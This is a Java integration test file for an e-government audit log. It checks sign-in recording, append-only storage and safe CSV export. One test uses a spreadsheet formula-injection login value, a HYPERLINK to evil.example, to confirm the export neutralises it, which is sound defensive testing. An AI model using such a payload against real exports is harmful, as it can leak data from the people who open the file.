package vn.egov.audit;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.awaitility.Awaitility.await;

import java.time.Duration;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.JdbcTemplate;
import vn.egov.identity.IdentityFixtures;
import vn.egov.identity.domain.Account;
import vn.egov.support.EgovTest;
import vn.egov.support.WebSession;

@EgovTest
class AuditLogTest {

    @LocalServerPort
    int port;

    @Autowired
    AuditLog log;

    @Autowired
    IdentityFixtures fixtures;

    @Autowired
    JdbcTemplate jdbc;

    @Test
    void a_sign_in_and_a_failed_one_are_recorded_with_who_when_and_from_where() {
        Account citizen = fixtures.citizen();
        WebSession browser = new WebSession(port);
        browser.submit(
                browser.get("/sign-in"),
                "/sign-in",
                java.util.Map.of("login", citizen.citizenId(), "password", "Sai-Mat-Khau-1"));
        fixtures.signIn(port, citizen.citizenId(), IdentityFixtures.PASSWORD);

        await().atMost(Duration.ofSeconds(10)).untilAsserted(() -> {
            assertThat(log.search("SIGN_IN_FAILED", citizen.citizenId(), null, null, 0, 10))
                    .singleElement()
                    .satisfies(e -> assertThat(e.actorIp()).isIn("127.0.0.1", "0:0:0:0:0:0:0:1"));
            assertThat(log.search("SIGN_IN_SUCCEEDED", citizen.id().toString(), null, null, 0, 10))
                    .singleElement()
                    .satisfies(e -> {
                        assertThat(e.actor()).isEqualTo(citizen.loginName());
                        assertThat(e.details()).contains("PASSWORD");
                    });
        });
    }

    @Test
    void recorded_entries_cannot_be_changed_or_removed_even_with_database_access() {
        await().atMost(Duration.ofSeconds(10)).until(() -> log.count(null, null, null, null) > 0);

        assertThatThrownBy(() -> jdbc.update("update audit.audit_entry set actor = 'someone else'"))
                .hasMessageContaining("append-only");
        assertThatThrownBy(() -> jdbc.update("delete from audit.audit_entry")).hasMessageContaining("append-only");
    }

    @Test
    void the_export_gives_what_someone_typed_as_text_a_spreadsheet_never_runs() {
        String login = "=HYPERLINK(\"http://evil.example/?\"&A1;\"Xem\")";
        WebSession stranger = new WebSession(port);
        stranger.submit(
                stranger.get("/sign-in"), "/sign-in", java.util.Map.of("login", login, "password", "Sai-Mat-Khau-1"));
        await().atMost(Duration.ofSeconds(10))
                .until(() -> !log.search("SIGN_IN_FAILED", "HYPERLINK", null, null, 0, 1)
                        .isEmpty());
        var admin = fixtures.official(vn.egov.shared.Role.PROVINCE_ADMIN, "000.00.03.H26", true);
        WebSession province = fixtures.signIn(port, admin.username(), IdentityFixtures.PASSWORD);

        String csv = province.get("/admin/audit/export.csv?action=SIGN_IN_FAILED&q=HYPERLINK")
                .body();

        assertThat(csv).contains("'=HYPERLINK");
        assertThat(csv.lines().skip(1))
                .isNotEmpty()
                .allSatisfy(line -> assertThat(line).doesNotContain(",=").doesNotContain(",\"="));
    }
}
